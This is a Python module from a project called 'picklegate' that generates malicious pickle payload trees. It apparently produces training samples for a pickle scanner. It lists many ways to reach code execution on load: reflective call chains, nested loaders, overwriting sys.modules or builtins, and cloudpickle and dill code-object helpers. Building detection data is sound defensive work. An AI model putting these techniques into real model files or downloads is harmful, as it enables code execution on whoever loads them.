"""The ways in which a pickle brings a harmful call about."""

from __future__ import annotations

from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

from picklegate.training.assembler import assemble
from picklegate.training.lists import rows, vocabulary, words
from picklegate.training.reaching import module_object, packed_bytes, reflected
from picklegate.training.style import random_style
from picklegate.training.tree import Build, Call, Extend, Fill, Name, New, Then, Tree
from picklegate.training.wrapping import crowded, wrapped

if TYPE_CHECKING:
    import random
    from collections.abc import Callable

    from picklegate.training.arguments import Arguments
    from picklegate.training.hostile import Gadget

_GETATTR = Name("builtins", "getattr")
_MODULES = Name("sys", "modules")


@dataclass(frozen=True, kw_only=True, slots=True)
class Payload:
    """A tree that does harm when it is loaded, and what it finally calls."""

    tree: Tree
    module: str
    name: str
    package: str
    effect: str
    arguments: str = ""


@dataclass(frozen=True, kw_only=True, slots=True)
class Family:
    """A way of calling, and how often it is drawn."""

    make: Callable[[Gadget, Arguments, random.Random], Payload]
    weight: float


def _payload(gadget: Gadget, tree: Tree, arguments: str) -> Payload:
    return Payload(
        tree=tree,
        module=gadget.module,
        name=gadget.name,
        package=gadget.package,
        effect=gadget.effect,
        arguments=arguments,
    )


def _drawn(gadget: Gadget, args: Arguments, rng: random.Random) -> tuple[str, tuple[Tree, ...]]:
    kinds = rng.choice(gadget.arguments)
    return kinds, crowded(wrapped(args.values(kinds, gadget.callee), rng), rng)


def _plain(gadget: Gadget, args: Arguments, rng: random.Random) -> Payload:
    kinds, values = _drawn(gadget, args, rng)
    return _payload(gadget, Call(gadget.callee, values), kinds)


def _reflective(gadget: Gadget, args: Arguments, rng: random.Random) -> Payload:
    kinds, values = _drawn(gadget, args, rng)
    draw = rng.random()
    if draw < 0.5:
        return _payload(gadget, Call(reflected(gadget.module, gadget.name, rng), values), kinds)
    direct = gadget.callee if rng.random() < 0.8 else reflected(gadget.module, gadget.name, rng)
    consumer = Name(
        "builtins", rng.choice(("list", "tuple", "set", "sum", "any", "all", "sorted", "max", "dict.fromkeys"))
    )
    thread = Call(Name("threading", "Thread"), (None, direct, None, values))
    pool = Call(Name("concurrent.futures", "ThreadPoolExecutor"), (1,))
    partial = Call(Name("functools", "partial"), (direct, *values))
    bound = Build(Call(Name("functools", "partial"), (direct,)), (direct, values, {}, None))
    ways: list[Callable[[], Tree]] = [
        lambda: Call(partial, ()),
        lambda: Call(bound, ()),
        lambda: Call(Name("operator", "call"), (direct, *values)),
        lambda: Call(Name("builtins", "apply"), (direct, values)),
        lambda: Call(Call(Name("operator", "methodcaller"), ("__call__", *values)), (direct,)),
        lambda: Call(Call(Name("types", "MethodType"), (direct, values[0] if values else None)), values[1:]),
        lambda: Call(consumer, (Call(Name("builtins", "map"), (direct, *([value] for value in values))),)),
        lambda: Call(consumer, (Call(Name("itertools", "starmap"), (direct, [values])),)),
        lambda: Call(consumer, (Call(Name("builtins", "filter"), (direct, list(values[:1]))),)),
        lambda: Call(Name("collections", "deque"), (Call(Name("builtins", "map"), (direct, list(values[:1]))), 0)),
        lambda: Call(Name("functools", "reduce"), (direct, list(values))),
        lambda: Call(Call(Name("operator", "methodcaller"), ("start",)), (thread,)),
        lambda: Call(Call(_GETATTR, (thread, "run")), ()),
        lambda: Call(Call(_GETATTR, (pool, "submit")), (direct, *values)),
        lambda: Call(Name("atexit", "register"), (direct, *values)),
        lambda: Call(Name("weakref", "finalize"), (gadget.callee, direct, *values)),
        lambda: Call(Name("builtins", "iter"), (partial, 0)),
        lambda: Call(Name("operator", "getitem"), (Call(Name("collections", "defaultdict"), (partial,)), 0)),
        lambda: Call(
            Name("contextlib", "ExitStack.callback"), (Call(Name("contextlib", "ExitStack")), direct, *values)
        ),
        lambda: Call(Name("contextvars", "Context.run"), (Call(Name("contextvars", "Context")), direct, *values)),
    ]
    if "." not in gadget.name:
        method = Call(Name("operator", "methodcaller"), (gadget.name, *values))
        ways += [lambda: Call(method, (module_object(gadget.module, rng),))] * 4
    return _payload(gadget, rng.choice(ways)(), kinds)


def _nested(gadget: Gadget, args: Arguments, rng: random.Random) -> Payload:
    inner = (_plain if rng.random() < 0.7 else _reflective)(gadget, args, rng)
    data = assemble(inner.tree, random_style(rng), rng).data
    blob: Tree = data
    draw = rng.random()
    if draw < 0.5:
        blob = packed_bytes(data, rng)
    if draw < 0.8:
        module, _, name = rng.choice(vocabulary("loader")).rpartition(".")
        return _payload(gadget, Call(Name(module, name), (blob,)), inner.arguments)
    file = Call(Name(rng.choice(("io", "_io")), "BytesIO"), (blob,))
    if draw > 0.95:
        reader = Call(Name("_pickle", "Unpickler"), (file,))
        return _payload(gadget, Call(Name("_pickle", "Unpickler.load"), (reader,)), inner.arguments)
    module, _, name = rng.choice(vocabulary("reader")).rpartition(".")
    flags: tuple[Tree, ...] = (None, True) if module == "numpy" else ()
    return _payload(gadget, Call(Name(module, name), (file, *flags)), inner.arguments)


def _state(gadget: Gadget, args: Arguments, rng: random.Random) -> Payload:
    """Something that stands is overwritten, and what uses it then does harm."""
    kinds, values = _drawn(gadget, args, rng)
    row = rng.choice(rows("known.tsv"))
    victim = (row["module"], row["name"])
    attribute = victim[1]
    module = Call(Name("importlib", "import_module"), (victim[0],))
    direct: Tree = gadget.callee
    poisoned = Build(module, rng.choice(({attribute: direct}, (None, {attribute: direct}))))
    word = rng.choice(words())
    cls = Name(*victim)
    instance = Build(New(cls), {"__setstate__": direct})
    ways: list[tuple[Tree, str]] = [
        (Then(poisoned, Call(cls, values)), kinds),
        (poisoned, ""),
        (Build(instance, values[0] if values else None), kinds),
        (
            Build(
                cls, (None, {rng.choice(("forward", "__call__", "__init__", "load_state_dict", "__reduce__")): direct})
            ),
            "",
        ),
        (Then(Call(Name("builtins", "setattr"), (module, attribute, direct)), Call(cls, values)), kinds),
        (Call(Name("builtins", "setattr"), (cls, "__call__", direct)), ""),
        (Fill(_MODULES, ((victim[0], direct),)), ""),
        (Call(Name("operator", "setitem"), (_MODULES, victim[0], direct)), ""),
        (Fill(Name("os", "environ"), ((args.text("envname"), args.text("envvalue")),)), "envname envvalue"),
        (Call(Name("os", "environ.update"), ({args.text("envname"): args.text("envvalue")},)), "envname envvalue"),
        (Extend(Name("sys", "path"), (args.text("dir"),)), "dir"),
        (Call(Name("sys", "path.insert"), (0, args.text("dir"))), "dir"),
        (Fill(Name("builtins", "__dict__"), ((rng.choice(("print", "open", "len", "isinstance")), direct),)), ""),
        (Fill(Name("copyreg", "dispatch_table"), ((cls, direct),)), ""),
        (Fill(Name("torch.serialization", "_package_registry"), ((word, direct),)), ""),
        (Extend(Name("sys", "meta_path"), (Call(Name(word, word.title())),)), ""),
        (
            Build(New(Name("asteval", "Interpreter")), {"symtable": {word: direct}, "code": args.text("source")}),
            "source",
        ),
        (Build(Name("logging", "Logger"), (None, {"info": direct})), ""),
    ]
    tree, used = rng.choice(ways)
    return _payload(gadget, tree, used)


def _known(gadget: Gadget, args: Arguments, rng: random.Random) -> Payload:
    """A callable that every model uses, overwritten beside the model, given code."""
    del gadget
    row = rng.choice(rows("known.tsv"))
    module, name, shape = row["module"], row["name"], row["shape"]
    kind = rng.choices(("source", "expr", "command", "marshal"), (8, 4, 5, 2))[0]
    payload = _telling(kind, args)
    fillers: tuple[tuple[Tree, ...], ...] = ((), (0,), ("",), (None,), ((),), (rng.choice(words()),))
    shaped: dict[str, Tree] = {"list": [payload], "pair": [(rng.choice(words()), payload)], "dict": {payload: 1}}
    values = (shaped.get(shape, payload) if rng.random() < 0.25 else payload,)
    values = (*values, *rng.choice(fillers)) if rng.random() < 0.7 else (*rng.choice(fillers), *values)
    return Payload(
        tree=Call(Name(module, name), values),
        module=module,
        name=name,
        package=module.split(".")[0],
        effect="exec",
        arguments=kind,
    )


def _beside(gadget: Gadget, args: Arguments, rng: random.Random) -> Payload:
    """A callable of a module that lies beside the model, or of a package nobody knows."""
    del gadget
    module = rng.choice((args.word(), f"{args.word()}.{args.word()}", f"_{args.word()}", f"utils.{args.word()}"))
    module = "".join(char for char in module if char.isalnum() or char in "._") or "m"
    verb = rng.choice(
        (
            "run",
            "load",
            "exec",
            "start",
            "main",
            "setup",
            "init",
            "install",
            "execute",
            "do",
            "call",
            "eval",
            "apply",
            "fetch",
        )
    )
    name = rng.choice(
        (
            verb,
            f"{verb}_{rng.choice(words())}",
            f"_{verb}",
            f"{rng.choice(words())}_{verb}",
            f"{rng.choice(words()).title()}",
        )
    )
    kind = rng.choices(("source", "expr", "command", "argv", "blob", "marshal", "pickle"), (6, 4, 6, 3, 2, 2, 3))[0]
    tree = Call(Name(module, name), (_telling(kind, args),))
    return Payload(tree=tree, module=module, name=name, package=module.split(".")[0], effect="exec", arguments=kind)


def _telling(kind: str, args: Arguments) -> Tree:
    """An argument that shows what it is: a bare ``ls`` given to a stranger could be any name."""
    while True:
        value = args.value(kind)
        if not isinstance(value, str) or (len(value) > 12 and not value.replace("_", "").isalnum()):
            return value


def _code(gadget: Gadget, args: Arguments, rng: random.Random) -> Payload:
    """A code object made in the stream, and run."""
    del gadget
    code = args.code()
    scope: Tree = rng.choice(({}, {"__builtins__": Name("builtins", "__dict__")}, Call(Name("builtins", "globals"))))
    function = Name("types", rng.choice(("FunctionType", "LambdaType")))
    runner = rng.choice((Name("builtins", "exec"), Name("builtins", "eval"), Name("runpy", "_run_code")))
    ways: tuple[tuple[Tree, Any], ...] = (
        (Call(Call(function, (code, scope)), ()), function),
        (Call(Call(function, (code, scope, rng.choice(words()))), ()), function),
        (Call(runner, (code, {}) if runner.name == "_run_code" else (code,)), runner),
        (
            Call(Name("code", "InteractiveInterpreter.runcode"), (Call(Name("code", "InteractiveInterpreter")), code)),
            function,
        ),
    )
    tree, callee = rng.choice(ways)
    return Payload(tree=tree, module=callee.module, name=callee.name, package="stdlib", effect="exec", arguments="code")


def _made(gadget: Gadget, args: Arguments, rng: random.Random) -> Payload:
    """A function that cloudpickle's or dill's own helpers make, called at once."""
    kinds, values = _drawn(gadget, args, rng)
    fields = args.code_arguments()
    cloud = rng.choice(
        ("cloudpickle.cloudpickle", "cloudpickle", "joblib.externals.cloudpickle.cloudpickle", "ray.cloudpickle")
    )
    word = rng.choice(words())
    code_type = Call(Call(Name(cloud, "_builtin_type"), ("CodeType",)), fields)
    base: dict[str, Tree] = {"__package__": None, "__name__": "__main__"}
    cloud_function = Build(
        Call(Name(cloud, "_make_function"), (code_type, base, None, None, None)),
        (
            {"__name__": word, "__qualname__": word, "__module__": "__main__"},
            {"__globals__": {"os": Call(Name(cloud, "subimport"), ("os",))}},
        ),
    )
    dill_code = Call(Name("dill._dill", "_create_code"), fields)
    dill_function = Call(
        Name("dill._dill", "_create_function"),
        (dill_code, {"__builtins__": Name("builtins", "__dict__")}, word, None, None),
    )
    loaded = Call(Call(Name("dill._dill", "_load_type"), ("CodeType",)), fields)
    reached = Call(
        Name("dill._dill", "_get_attr"), (Call(Name("dill._dill", "_import_module"), (gadget.module,)), gadget.name)
    )
    ways: tuple[tuple[Tree, str, str, str], ...] = (
        (Call(cloud_function, ()), cloud, "_make_function", "code"),
        (
            Call(
                Call(Name(cloud, "_fill_function"), (Call(Name(cloud, "_make_skel_func"), (code_type, 0, base)), {})),
                (),
            ),
            cloud,
            "_make_skel_func",
            "code",
        ),
        (Call(dill_function, ()), "dill._dill", "_create_function", "code"),
        (Call(Call(Name("types", "FunctionType"), (loaded, {})), ()), "types", "FunctionType", "code"),
        (Call(Name("builtins", "eval"), (dill_code,)), "builtins", "eval", "code"),
        (Call(Name("dill._dill", "_eval_repr"), (args.text("expr"),)), "dill._dill", "_eval_repr", "expr"),
        (Call(reached, values), gadget.module, gadget.name, kinds),
    )
    tree, module, name, used = rng.choice(ways)
    return Payload(tree=tree, module=module, name=name, package=module.split(".")[0], effect="exec", arguments=used)


FAMILIES: dict[str, Family] = {
    "plain": Family(make=_plain, weight=38),
    "reflective": Family(make=_reflective, weight=18),
    "nested": Family(make=_nested, weight=8),
    "state": Family(make=_state, weight=7),
    "known": Family(make=_known, weight=14),
    "beside": Family(make=_beside, weight=9),
    "code": Family(make=_code, weight=5),
    "made": Family(make=_made, weight=5),
}
